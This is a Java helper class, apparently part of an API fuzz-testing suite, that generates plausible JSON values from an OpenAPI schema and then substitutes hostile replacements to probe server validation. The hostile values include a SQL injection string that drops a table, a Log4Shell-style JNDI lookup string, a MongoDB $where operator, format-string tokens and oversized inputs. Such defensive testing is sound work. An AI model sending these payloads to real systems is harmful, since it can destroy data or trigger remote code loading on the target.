package org.truce.server.openapi;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;

/**
 * A plausible JSON value for a schema of the served OpenAPI 3.0 document: the first enum value, a
 * date or instant for those formats, a seed id for uuids, and objects filled property by property.
 * Plausible, not valid: the point is to get past the parser so that one hostile field at a time
 * reaches the validation behind it.
 */
final class PlausibleValues {
  static final String UUID_SEED = "00000000-0000-4000-8000-000000000000";
  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
  private final JsonNode document;

  PlausibleValues(JsonNode document) {
    this.document = document;
  }

  JsonNode resolve(JsonNode schema) {
    JsonNode s = schema;
    for (int hops = 0; s.has("$ref") && hops < 20; hops++) {
      s = document.at(s.get("$ref").asText().substring(1));
    }
    return s;
  }

  /** The object properties of a schema, with its allOf parts, resolved. */
  Map<String, JsonNode> properties(JsonNode schema) {
    Map<String, JsonNode> out = new java.util.LinkedHashMap<>();
    JsonNode s = resolve(schema);
    for (JsonNode part : s.path("allOf")) {
      out.putAll(properties(part));
    }
    for (Iterator<Map.Entry<String, JsonNode>> it = s.path("properties").fields(); it.hasNext(); ) {
      Map.Entry<String, JsonNode> p = it.next();
      out.put(p.getKey(), resolve(p.getValue()));
    }
    return out;
  }

  JsonNode of(JsonNode schema) {
    return of(schema, 0);
  }

  private JsonNode of(JsonNode schema, int depth) {
    JsonNode s = resolve(schema);
    if (s.has("example")) {
      return s.get("example");
    }
    if (s.has("enum") && s.get("enum").size() > 0) {
      return s.get("enum").get(0);
    }
    if (s.has("oneOf") || s.has("anyOf")) {
      return of((s.has("oneOf") ? s.get("oneOf") : s.get("anyOf")).get(0), depth);
    }
    String type = s.path("type").asText(s.has("properties") || s.has("allOf") ? "object" : "string");
    return switch (type) {
      case "integer" -> NODES.numberNode(1);
      case "number" -> NODES.numberNode(1.5);
      case "boolean" -> NODES.booleanNode(true);
      case "array" -> depth > 4 ? NODES.arrayNode() : NODES.arrayNode().add(of(s.path("items"), depth + 1));
      case "object" -> object(s, depth);
      default -> NODES.textNode(text(s.path("format").asText("")));
    };
  }

  private JsonNode object(JsonNode s, int depth) {
    ObjectNode o = NODES.objectNode();
    if (depth > 4) {
      return o;
    }
    properties(s).forEach((name, p) -> o.set(name, of(p, depth + 1)));
    return o;
  }

  private static String text(String format) {
    return switch (format) {
      case "date-time" -> "2017-06-01T08:30:00Z";
      case "date" -> "2017-06-01";
      case "uuid" -> UUID_SEED;
      case "uri" -> "https://example.org/a";
      default -> "plausible";
    };
  }

  /** Wrong-typed and hostile replacements for a value of this schema. */
  static List<JsonNode> hostile(JsonNode resolved) {
    List<JsonNode> out = new ArrayList<>();
    String type = resolved.path("type").asText("string");
    out.add(NODES.nullNode());
    out.add(NODES.objectNode().put("$where", "1"));
    out.add(NODES.arrayNode().add(NODES.nullNode()));
    switch (type) {
      case "integer", "number" -> {
        out.add(NODES.textNode("12abc"));
        out.add(NODES.numberNode(new java.math.BigDecimal("1e400")));
        out.add(NODES.numberNode(-9_223_372_036_854_775_808L));
        out.add(NODES.numberNode(new java.math.BigInteger("99999999999999999999999")));
      }
      case "boolean" -> out.add(NODES.textNode("yes"));
      case "array" -> {
        out.add(NODES.textNode("not a list"));
        out.add(NODES.arrayNode().add(NODES.objectNode()).add(12).add("'; DROP TABLE report; --"));
      }
      case "object" -> {
        out.add(NODES.textNode("not an object"));
        out.add(NODES.numberNode(7));
      }
      default -> {
        out.add(NODES.numberNode(12345));
        out.add(NODES.booleanNode(false));
        out.add(NODES.textNode(""));
        out.add(NODES.textNode("'; DROP TABLE report; -- \" \\ %s %n ${jndi:ldap://x/a}"));
        out.add(NODES.textNode("\u0000\u202e\ud83d\ude00 ب ж ğ"));
        out.add(NODES.textNode("9999-99-99T99:99:99Z"));
        out.add(NODES.textNode("x".repeat(70_000)));
      }
    }
    return out;
  }
}
